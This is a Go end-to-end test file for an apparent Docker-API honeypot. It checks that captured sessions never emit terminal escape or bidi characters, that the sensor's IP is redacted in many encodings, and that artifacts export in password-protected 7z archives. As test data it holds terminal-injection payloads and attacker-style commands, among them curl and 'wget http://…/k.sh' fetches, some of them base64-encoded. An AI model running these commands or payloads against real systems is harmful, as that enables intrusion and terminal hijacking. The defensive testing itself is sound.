package e2e

import (
	"archive/tar"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"
)

// nasty is what must not reach a terminal: escapes, 8-bit controls, NUL, bytes
// that are no UTF-8, marks that turn the direction of text.
const nasty = "\x1b[2J\x1b]0;owned\x07\u009b31m\x7f\u202ereversed\u2066\u200f\ufeff"

// terminalSafe tells the first byte that a terminal would act on, "" if none.
func terminalSafe(s string) string {
	if !utf8.ValidString(s) {
		return "bytes that are no UTF-8"
	}
	for i, r := range s {
		if r < 0x20 && r != '\n' || r >= 0x7f && r < 0xa0 || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x200e || r == 0x200f || r == 0xfeff || r == 0x2028 || r == 0x2029 || r == 0x061c {
			return fmt.Sprintf("%q in %q", r, s[max(0, i-40):min(len(s), i+40)])
		}
	}
	return ""
}

// raw sends bytes and waits until the connection is quiet.
func (d *decoy) raw(b string) {
	c, err := d.from("127.0.0.1")
	if err != nil {
		d.t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, b)
	c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	_, _ = io.Copy(io.Discard, c)
}

func TestNothingReachesTheTerminal(t *testing.T) {
	d := serve(t)
	d.call("POST", "/images/create?fromImage=alpine&tag=latest", "")
	bad := nasty + "\xff\xfe\x80"
	d.raw("G\x1b[2JET / HTTP/1.1\r\nHost: x\r\n\r\n")
	d.raw("\x1b[2J\x00\xff\x9b31m\r\n\r\n")
	d.raw("GET /" + bad + "?" + bad + " HTTP/1.1\r\nHost: " + bad + "\r\nUser-Agent: " + bad + "\r\nX-" + bad + ": " + bad + "\r\n\r\n")
	d.raw("GET /containers/\u202eabc\u009b/json HTTP/1.1\r\nHost: x\r\nUser-Agent: " + nasty[4:] + "\u202e\u009b\r\nCookie: \u009b\r\n\r\n")
	d.raw("GET /v1.24/images/json?filters=%1b[2J%00%ff%e2%80%ae HTTP/1.1\r\nHost: x\r\n\r\n")
	q, _ := json.Marshal(nasty)
	s := string(q)
	create := fmt.Sprintf(`{"Image":"alpine","Env":["A="%[1]s],"Labels":{%[1]s:%[1]s},"Hostname":"h","Cmd":["sh","-c",%[2]s],"Tty":true,"OpenStdin":true}`,
		s, string(must(json.Marshal("printf '\\033[2J\\033]0;x\\007\\377'; echo '"+nasty+"'; touch '/tmp/"+nasty+"'; '"+nasty+"'; curl 'http://203.0.113.9/"+nasty+"'; cat; sleep 2"))))
	create = strings.Replace(create, `"A="`+s, string(must(json.Marshal("A="+nasty))), 1)
	code, b := d.call("POST", "/containers/create?name=ok", create)
	if code != 201 {
		t.Fatalf("create: %d %s", code, b)
	}
	d.call("POST", "/containers/create?name="+url.QueryEscape(nasty), `{"Image":"alpine"}`)
	d.call("POST", "/containers/create", fmt.Sprintf(`{"Image":%s}`, s))
	d.call("POST", "/images/create?fromImage="+url.QueryEscape(nasty)+"&tag="+url.QueryEscape(nasty), "")
	d.call("POST", "/auth", fmt.Sprintf(`{"username":%[1]s,"password":%[1]s,"serveraddress":%[1]s}`, s))
	d.call("POST", "/containers/create", "{\x1b\x00\xff")
	// An attached terminal that is typed into.
	c, err := d.from("127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(c, "POST /containers/ok/attach?stream=1&stdin=1&stdout=1&stderr=1 HTTP/1.1\r\nHost: x\r\nUpgrade: tcp\r\nConnection: Upgrade\r\n\r\n")
	d.call("POST", "/containers/ok/start", "")
	io.WriteString(c, bad+"\r")
	c.SetReadDeadline(time.Now().Add(time.Second))
	io.Copy(io.Discard, c)
	c.Close()
	var tb bytes.Buffer
	w := tar.NewWriter(&tb)
	for _, n := range []string{nasty, "a\x1b[2Jb", "caf\xff"} {
		w.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: 8000, Uname: "\x1b[2J", PAXRecords: nil, Format: tar.FormatGNU})
		w.Write(bytes.Repeat([]byte(bad), 8000/len(bad)+1)[:8000])
	}
	w.Close()
	req, _ := http.NewRequest("PUT", "http://"+d.addr+"/containers/ok/archive?path=/tmp", &tb)
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != 200 {
		t.Errorf("archive: %v %v", resp, err)
	} else {
		resp.Body.Close()
	}
	req, _ = http.NewRequest("POST", "http://"+d.addr+"/build?t=x", bytes.NewReader(tarOf("Dockerfile", "FROM alpine\nRUN echo '"+nasty+"'\n")))
	if resp, err := http.DefaultClient.Do(req); err == nil {
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	ses := d.lastSession(func(s doc) bool { return len(s.Commands) > 2 && len(s.Requests) > 12 })
	if len(ses.Requests) < 12 {
		t.Fatalf("only %d requests on record", len(ses.Requests))
	}
	out, _, _ := wf(t, "session", "ls", "--all", "--data", d.data, "--format", "json")
	var ids []string
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var row struct{ ID string }
		json.Unmarshal([]byte(l), &row)
		ids = append(ids, row.ID)
	}
	n := 0
	see := func(args ...string) {
		t.Helper()
		args = append(args, "--data", d.data)
		out, errOut, _ := wf(t, args...)
		n++
		for _, x := range []string{out, errOut} {
			if why := terminalSafe(x); why != "" {
				t.Errorf("%s: %s", strings.Join(args, " "), why)
			}
		}
	}
	for _, f := range []string{"table", "json"} {
		see("session", "ls", "--all", "--format", f)
		see("ioc", "ls", "--format", f)
		see("artifact", "ls", "--format", f)
		see("doctor", "--format", f)
		see("egress", "ls", "--format", f)
		for _, id := range ids {
			see("session", "show", id, "--format", f)
		}
	}
	see("brief")
	see("brief", "--format", "json")
	for _, e := range []string{"events", "sessions", "ioc-csv"} {
		see("export", e)
		see("export", e, "--no-redact")
	}
	for _, id := range ids {
		see("session", "play", id, "--speed", "0")
		for _, f := range []string{"jsonl", "json", "cast"} {
			see("session", "export", id, "--format", f)
		}
	}
	see("session", "show", nasty)
	see("artifact", "get", nasty)
	see("purge", "--source", nasty)
	see("session", "export", ids[0], "--format", nasty)
	see(nasty)
	if why := terminalSafe(d.text()); why != "" {
		t.Errorf("serve's log: %s", why)
	}
	t.Logf("%d outputs", n)
}

func must(b []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return b
}

func reversed(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

// encodings are those that docs/redaction.md names.
func encodings(ip string) map[string]string {
	a := net.ParseIP(ip).To4()
	n := binary.BigEndian.Uint32(a)
	h := hex.EncodeToString(a)
	b64 := base64.StdEncoding.EncodeToString
	m := map[string]string{
		"dotted": ip, "dashes": strings.ReplaceAll(ip, ".", "-"), "underscores": strings.ReplaceAll(ip, ".", "_"), "[.]": strings.ReplaceAll(ip, ".", "[.]"),
		"(.)": strings.ReplaceAll(ip, ".", "(.)"), `\.`: strings.ReplaceAll(ip, ".", `\.`), "number": fmt.Sprint(n), "hex": h, "HEX": strings.ToUpper(h), "0x": "0x" + h, "0X": "0X" + strings.ToUpper(h),
		"swapped": fmt.Sprintf("%02X%02X%02X%02X", a[3], a[2], a[1], a[0]), "octal": fmt.Sprintf("0%o.0%o.0%o.0%o", a[0], a[1], a[2], a[3]),
		"octal4":    fmt.Sprintf("%04o.%04o.%04o.%04o", a[0], a[1], a[2], a[3]),
		"hex bytes": fmt.Sprintf("0x%x.0x%x.0x%x.0x%x", a[0], a[1], a[2], a[3]), `\x`: fmt.Sprintf(`\x%02x\x%02x\x%02x\x%02x`, a[0], a[1], a[2], a[3]),
		`\X`:       fmt.Sprintf(`\x%02X\x%02X\x%02X\x%02X`, a[0], a[1], a[2], a[3]),
		"reversed": reversed(ip), "percent": strings.ReplaceAll(ip, ".", "%2E"), "percent lower": strings.ReplaceAll(ip, ".", "%2e"), "arpa": fmt.Sprintf("%d.%d.%d.%d.in-addr.arpa", a[3], a[2], a[1], a[0]),
		"hex text": hex.EncodeToString([]byte(ip)), "mapped": "::ffff:" + ip,
		"hex of a longer text": hex.EncodeToString([]byte("curl http://" + ip + "/x")),
	}
	text := "wget http://" + ip + "/k.sh"
	for i, pre := range []string{"", "a", "bc", "def"} {
		m[fmt.Sprintf("base64 at %d", i)] = b64([]byte(pre + text))
		m[fmt.Sprintf("base64url at %d", i)] = base64.RawURLEncoding.EncodeToString([]byte(pre + text + "??>>~~"))
	}
	x := text
	for i := 2; i <= 4; i++ {
		x = b64([]byte(x))
		if i > 1 {
			m[fmt.Sprintf("base64 %d deep", i-1)] = x
		}
	}
	m["base64 of hex"] = b64([]byte(hex.EncodeToString([]byte(text))))
	m["rev of base64"] = reversed(b64([]byte(text)))
	return m
}

// No address of the sensor's, in any encoding, is in anything that leaves.
func TestRedaction(t *testing.T) {
	const ip = "198.51.100.77"
	var mu sync.Mutex
	var hook bytes.Buffer
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		hook.Write(b)
		mu.Unlock()
	}))
	defer srv.Close()
	sink := filepath.Join(t.TempDir(), "sink.jsonl")
	d := serve(t, "--config", refuseConfig(t, fmt.Sprintf("sinks:\n  - type: file\n    path: %s\n  - type: webhook\n    url: %s\n    secret: s3cret\n", sink, srv.URL)))
	d.call("POST", "/images/create?fromImage=alpine&tag=latest", "")
	enc := encodings(ip)
	code, b := d.call("POST", "/containers/create?name=tty", `{"Image":"alpine","Cmd":["cat"],"Tty":true,"OpenStdin":true}`)
	if code != 201 {
		t.Fatalf("create: %d %s", code, b)
	}
	c, err := d.from("127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, "POST /containers/tty/attach?stream=1&stdin=1&stdout=1 HTTP/1.1\r\nHost: "+ip+":2375\r\nUpgrade: tcp\r\nConnection: Upgrade\r\n\r\n")
	d.call("POST", "/containers/tty/start", "")
	for name, e := range enc {
		body := string(must(json.Marshal(map[string]any{"Image": "alpine", "Cmd": []string{"echo", e}, "Env": []string{"X=" + e}})))
		req, _ := http.NewRequest("POST", "http://"+d.addr+"/containers/create?x="+url.QueryEscape(e), strings.NewReader(body))
		req.Host = ip + ":2375"
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("X-From", e)
		resp, err := http.DefaultClient.Do(req)
		if err != nil || resp.StatusCode != 201 {
			t.Fatalf("%s: %v %v", name, resp, err)
		}
		resp.Body.Close()
		io.WriteString(c, e+"\r")
	}
	time.Sleep(time.Second)
	c.Close()
	s := d.lastSession(func(s doc) bool { return len(s.Requests) >= len(enc)+4 })
	time.Sleep(time.Second)
	look := func(where, text string) {
		t.Helper()
		if len(text) < 1000 {
			t.Errorf("%s holds only %d bytes", where, len(text))
		}
		for _, l := range strings.Split(text, "\n") {
			for name, e := range enc {
				for _, v := range []string{e, strings.ReplaceAll(e, `\`, `\\`), url.QueryEscape(e)} {
					if i := strings.Index(l, v); i >= 0 && alone(l, i, len(v)) {
						t.Errorf("%s has the address as %s: …%s…", where, name, l[max(0, i-60):min(len(l), i+len(v)+20)])
					}
				}
			}
			// Recorded bytes stand in base64 in JSON; so does what an attacker hid.
			for depth, in := 0, []string{l}; depth < 3; depth++ {
				var next []string
				for _, x := range in {
					for _, m := range words64(x) {
						next = append(next, m)
						if strings.Contains(m, ip) {
							t.Errorf("%s has the address in base64, %d deep: %.200q", where, depth+1, m)
						}
					}
				}
				in = next
			}
		}
	}
	for _, f := range []string{"jsonl", "json", "cast"} {
		out, _, _ := wf(t, "session", "export", s.ID, "--format", f, "--data", d.data)
		look("session export "+f, out)
	}
	for _, f := range []string{"events", "sessions"} {
		out, _, _ := wf(t, "export", f, "--data", d.data)
		look("export "+f, out)
	}
	out, _, _ := wf(t, "export", "ioc-csv", "--data", d.data)
	look("export ioc-csv", out+strings.Repeat(" ", 1000))
	f, _ := os.ReadFile(sink)
	look("the file sink", string(f))
	mu.Lock()
	look("the webhook", hook.String())
	mu.Unlock()
	if out, _, _ := wf(t, "session", "export", s.ID, "--format", "json", "--no-redact", "--data", d.data); !strings.Contains(out, ip) {
		t.Error("--no-redact has it not")
	}
	if out, _, _ := wf(t, "export", "events", "--no-redact", "--data", d.data); !strings.Contains(out, ip) {
		t.Error("export --no-redact has it not")
	}
}

// alone: digits beside a number make it another number.
func alone(s string, i, n int) bool {
	d := func(c byte) bool { return c >= '0' && c <= '9' }
	return !(i > 0 && d(s[i-1]) && d(s[i])) && !(i+n < len(s) && d(s[i+n]) && d(s[i+n-1]))
}

// words64 decodes what in s is base64.
func words64(s string) (out []string) {
	for _, m := range strings.FieldsFunc(s, func(r rune) bool {
		return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '+' || r == '/' || r == '-' || r == '_')
	}) {
		if len(m) < 16 {
			continue
		}
		for _, e := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding} {
			if b, err := e.DecodeString(m[:len(m)-len(m)%4]); err == nil {
				out = append(out, string(b))
			}
		}
	}
	return out
}

func TestArtifactOpensWith7z(t *testing.T) {
	if _, err := exec.LookPath("7z"); err != nil {
		t.Skip("needs 7z")
	}
	d := serve(t)
	text := strings.Repeat("a sample that is long enough to be kept\n", 2000)
	c := d.client("127.0.0.1")
	id := d.run(c, "sleep 1")
	req, _ := http.NewRequest("PUT", "http://"+d.addr+"/containers/"+id+"/archive?path=/tmp", bytes.NewReader(tarOf("sample.sh", text)))
	resp, err := c.Do(req)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("upload: %v %v", resp, err)
	}
	resp.Body.Close()
	dir := t.TempDir()
	found := false
	for end := time.Now().Add(3 * time.Second); !found && time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		out, _, _ := wf(t, "artifact", "ls", "--data", d.data, "--format", "json")
		for i, l := range strings.Split(strings.TrimSpace(out), "\n") {
			var a artRow
			if json.Unmarshal([]byte(l), &a) != nil || a.SHA256 == "" {
				continue
			}
			p := filepath.Join(dir, fmt.Sprintf("%d-%d.zip", time.Now().UnixNano(), i))
			if _, errOut, code := wf(t, "artifact", "get", a.SHA256, "--data", d.data, "-o", p); code != 0 {
				t.Fatalf("artifact get: %s", errOut)
			}
			if _, err := exec.Command("7z", "x", "-so", "-pwrong", p).Output(); err == nil {
				t.Error("a wrong password opens it")
			}
			b, err := exec.Command("7z", "x", "-so", "-pinfected", p).Output()
			if err != nil {
				t.Fatalf("7z: %v", err)
			}
			found = found || strings.Contains(string(b), text)
		}
	}
	if !found {
		t.Error("the upload is in no artifact")
	}
}

// A terminal that was attached is replayed and exported as it was.
func TestPlayAndCast(t *testing.T) {
	d := serve(t)
	d.call("POST", "/images/create?fromImage=alpine&tag=latest", "")
	code, b := d.call("POST", "/containers/create?name=it", `{"Image":"alpine","Cmd":["sh"],"Tty":true,"OpenStdin":true,"StdinOnce":true,"AttachStdin":true,"AttachStdout":true}`)
	if code != 201 {
		t.Fatalf("create: %d %s", code, b)
	}
	c, err := d.from("127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, "POST /containers/it/attach?stream=1&stdin=1&stdout=1&stderr=1 HTTP/1.1\r\nHost: x\r\nUpgrade: tcp\r\nConnection: Upgrade\r\n\r\n")
	d.call("POST", "/containers/it/start", "")
	d.call("POST", "/containers/it/resize?h=30&w=132", "")
	time.Sleep(200 * time.Millisecond)
	for _, l := range []string{"echo mark-$((6*7))\r", "printf '\\033[31mred\\033[0m\\n'\r", "exit 3\r"} {
		io.WriteString(c, l)
		time.Sleep(100 * time.Millisecond)
	}
	c.SetReadDeadline(time.Now().Add(3 * time.Second))
	got, _ := io.ReadAll(c)
	if !strings.Contains(string(got), "mark-42") {
		t.Fatalf("the terminal said %q", got)
	}
	s := d.lastSession(func(s doc) bool { return len(s.Requests) >= 5 })
	time.Sleep(500 * time.Millisecond)
	out, _, code := wf(t, "session", "play", s.ID, "--speed", "0", "--data", d.data)
	if code != 0 || !strings.Contains(out, "mark-42") || !strings.Contains(out, `\x1b[31mred`) || strings.Contains(out, "\x1b") {
		t.Errorf("play: exit %d %q", code, out)
	}
	if out, _, _ = wf(t, "session", "play", s.ID, "--speed", "0", "--raw", "--data", d.data); !strings.Contains(out, "\x1b[31mred") {
		t.Errorf("play --raw: %q", out)
	}
	out, _, _ = wf(t, "session", "export", s.ID, "--format", "cast", "--data", d.data)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	var head struct{ Version, Width, Height int }
	if err := json.Unmarshal([]byte(lines[0]), &head); err != nil || head.Version != 2 || head.Width != 132 || head.Height != 30 {
		t.Errorf("head: %v %s", err, lines[0])
	}
	var in, shown strings.Builder
	last := 0.0
	for _, l := range lines[1:] {
		var e []any
		if err := json.Unmarshal([]byte(l), &e); err != nil || len(e) != 3 {
			t.Fatalf("%v in %s", err, l)
		}
		if at := e[0].(float64); at < last {
			t.Errorf("time goes back at %s", l)
		} else {
			last = at
		}
		switch e[1] {
		case "i":
			in.WriteString(e[2].(string))
		case "o":
			shown.WriteString(e[2].(string))
		default:
			t.Errorf("an event of kind %v", e[1])
		}
	}
	if !strings.Contains(in.String(), "exit 3\r") || !strings.Contains(shown.String(), "mark-42") || !strings.Contains(shown.String(), "\x1b[31mred") {
		t.Errorf("in %q, out %q", in.String(), shown.String())
	}
}
